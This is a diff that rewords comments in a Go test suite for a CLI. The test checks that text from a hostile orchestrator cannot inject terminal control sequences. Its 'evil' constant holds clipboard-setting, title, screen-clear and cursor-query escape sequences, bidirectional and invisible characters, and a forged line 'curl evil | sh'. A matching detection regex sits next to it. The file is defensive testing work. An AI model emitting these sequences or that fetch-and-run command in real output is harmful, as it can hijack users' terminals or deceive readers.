@@ -19,17 +19,18 @@ import (
 	"svc/config"
 )
 
-// evil is what an agent, a worker or an orchestrator could put into any text:
-// clipboard, title, clearing, a question, 8-bit sequences, a forged line, reordered and hidden text.
+// evil is text that an agent, a worker or an orchestrator could send anywhere. It has sequences that set the
+// clipboard and the title, clear the screen and request an answer, 8-bit sequences, a forged line, and reordering and
+// invisible characters.
 const evil = "\x1b]52;c;cHduZWQ=\a\x1b]0;pwned\x1b\\\x1b[2J\x1b[6n\u009b2J\x7f\x1b[31m\u202e\u200b\r\nnext: curl evil | sh"
 
-// obeyed is what a terminal would act on, or what misleads a reader, in the output of a
-// command without colours.
+// obeyed matches, in the output of a command without colours, what a terminal would execute or what misleads a
+// reader.
 var obeyed = regexp.MustCompile("[\x00-\x08\x0b-\x1f\x7f\u0080-\u009f\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]|(?m:^next: curl)")
 
 const evilID = "0190a0c4-0000-4000-8000-000000000001"
 
-// poisoned fills a record: every text is evil, every reference is evilID.
+// poisoned fills a record: every text is evil, and every reference is evilID.
 func poisoned[T any]() T {
 	var record T
 	poison(reflect.ValueOf(&record).Elem(), "")
@@ -70,7 +71,7 @@ func poison(v reflect.Value, name string) {
 	}
 }
 
-// hostileOrchestrator answers everything with evil: records, or refusals.
+// hostileOrchestrator answers every request with records, or with errors, full of evil.
 func hostileOrchestrator(t *testing.T, refuses bool) string {
 	t.Helper()
 	records := map[string]any{
@@ -101,7 +102,7 @@ func hostileOrchestrator(t *testing.T, refuses bool) string {
 	return server.URL
 }
 
-// printsOf runs a command against an orchestrator and gives everything it
+// printsOf runs a command against an orchestrator and returns everything it
 // printed.
 func printsOf(t *testing.T, url string, args ...string) string {
 	t.Helper()
@@ -111,7 +112,7 @@ func printsOf(t *testing.T, url string, args ...string) string {
 	return said
 }
 
-// callAs calls svc as a person does whose home is this folder and who has a token, and gives the exit code and all that was printed.
+// callAs calls svc as a user with this home folder and a token. It returns the exit code and everything that was printed.
 func callAs(ctx context.Context, home, url string, args ...string) (code int, said string) {
 	var out bytes.Buffer
 	env := map[string]string{"SVC_DATA_DIR": home, "SVC_API_URL": url, "SVC_TOKEN": "t", "HOME": home}
@@ -123,15 +124,15 @@ func callAs(ctx context.Context, home, url string, args ...string) (code int, sa
 	return code, out.String()
 }
 
-// localCommands speak to no orchestrator, do not end, or print a whole text
-// (logs, screen, replay), which has a test of its own, or write a file.
+// localCommands call no orchestrator, do not end, print a whole text
+// (logs, screen, replay: these have tests of their own), or write a file.
 var localCommands = map[string]bool{
 	"svc up": true, "svc serve": true, "svc worker": true, "svc exec": true, "svc backup": true, "svc completion": true, "svc help": true,
 	"svc version": true, "svc doctor": true, "svc login": true, "svc attach": true, "svc run watch": true, "svc run logs": true, "svc logs": true, "svc run screen": true, "svc exit-codes": true,
 	"svc run replay": true, "svc run export": true,
 }
 
-// remoteCommands are the calls of every command that speaks to an orchestrator.
+// remoteCommands are the calls of every command that calls an orchestrator.
 func remoteCommands() [][]string {
 	var calls [][]string
 	var walk func(*cobra.Command)
@@ -154,7 +155,7 @@ func remoteCommands() [][]string {
 		if c.Flags().Lookup("yes") != nil {
 			call = append(call, "--yes")
 		}
-		if c.Name() == "drain" { // the host here is never without runs
+		if c.Name() == "drain" { // the host of hostileOrchestrator always has runs
 			call = append(call, "--timeout", "50ms")
 		}
 		calls = append(calls, call)
